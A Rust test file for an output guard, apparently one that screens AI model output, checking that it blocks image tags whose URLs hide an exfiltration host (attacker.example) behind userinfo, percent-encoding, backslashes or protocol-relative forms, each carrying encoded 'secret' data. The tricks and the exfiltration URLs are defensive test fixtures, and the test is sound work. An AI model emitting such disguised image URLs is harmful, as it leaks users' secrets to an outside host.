//! The attacker writes the allowed host where a reader (or a naive prefix check) sees a host, `https://docs.rs@...`,
//! or hides the real host behind a backslash or a protocol-relative URL. A browser goes to the host after the `@`.

use airlock_guard::score::Verdict;
use airlock_guard::validate::{FindingKind, OutputPolicy, validate};

#[test]
fn hide_the_exfiltration_host_behind_userinfo() {
    let policy =
        OutputPolicy { allowed_hosts: vec!["docs.rs".into(), "*.github.com".into()], ..OutputPolicy::default() };
    for url in [
        "https://docs.rs@attacker.example/p.png?d=c2VjcmV0",
        "https://docs.rs:443@attacker.example/p.png?d=c2VjcmV0",
        "https://attacker%2Eexample/p.png?d=c2VjcmV0",
        "//attacker.example/p.png?d=c2VjcmV0",
        "https://attacker.example\\@docs.rs/p.png?d=c2VjcmV0",
    ] {
        let output = format!("<img src=\"{url}\" alt=\"\">");
        let v = validate(&output, None, &policy, None);
        assert_eq!(v.verdict, Verdict::Block, "{url}: {:#?}", v.findings);
        assert_eq!(v.findings.len(), 1, "{url}: {:#?}", v.findings);
        let f = &v.findings[0];
        assert_eq!(f.kind, FindingKind::ImageExfiltration, "{url}");
        assert_eq!(&output[f.span.clone()], url);
        assert!(f.detail.contains("attacker.example"), "{url}: {}", f.detail);
    }
    // The real allowed host still passes with data.
    let output = "<img src=\"https://avatars.github.com/u/1?s=40\">";
    assert_eq!(validate(output, None, &policy, None).verdict, Verdict::Allow);
}
